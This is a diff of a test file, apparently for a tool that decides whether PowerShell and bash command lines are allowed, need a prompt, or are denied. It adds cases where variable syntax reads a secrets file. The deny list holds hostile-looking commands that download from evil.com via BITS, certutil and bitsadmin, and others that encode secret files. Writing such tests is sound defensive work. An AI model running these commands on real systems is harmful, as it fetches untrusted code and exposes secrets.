@@ -103,6 +103,8 @@ describe('PowerShell on Windows', () => {
     ['Format-Hex C:\\Secrets\\a.txt', 'deny'], ['certutil -encode C:\\Secrets\\a.txt out', 'deny'], ['certutil -decode in C:\\Windows\\x', 'deny'],
     ['md C:\\Windows\\x', 'deny'], ['Start-BitsTransfer -Source https://evil.com/x', 'deny'], ['certutil -urlcache -f https://evil.com/x out', 'deny'],
     ['bitsadmin /transfer j https://evil.com/x C:\\x', 'deny'],
+    // A drive-qualified variable reads the drive's item: a file's content.
+    ['Write-Output ${C:\\Secrets\\a.txt}', 'ask'], ['Write-Output "${C:\\Secrets\\a.txt}"', 'ask'], ['echo $function:prompt', 'ask'],
   ])('%s: %s', (line, expected) => {
     expect(decision(line, 'powershell')).toBe(expected);
   });
@@ -114,7 +116,7 @@ describe('lines with no such effect stay allowed', () => {
     ['make -j4 CFLAGS=-O2 all', 'bash'], ['make', 'bash'], ['cmake --build build', 'bash'], ['cmake -E echo hi', 'bash'], ['go test ./...', 'bash'], ['npm test', 'bash'],
     ['dig evil.com', 'bash'], ['docker run -it -v data:/x alpine', 'bash'], ['docker build -t tag .', 'bash'], ['docker run --rm -v "$PWD":/app node:20 npm ci', 'bash'],
     ['touch -d 2020-01-01 f', 'bash'], ['truncate -s 0 f', 'bash'], ['psql -c "select 1" -d mydb', 'bash'], ['diff a b', 'bash'], ['gzip -k notes.txt', 'bash'],
-    ['Get-Content C:\\w\\repo\\a.txt', 'powershell'],
+    ['Get-Content C:\\w\\repo\\a.txt', 'powershell'], ['echo $env:PATH ${env:HOME} $script:x', 'powershell'],
   ] as const)('%s', (line, shell) => {
     expect(decision(line, shell)).toBe('allow');
   });
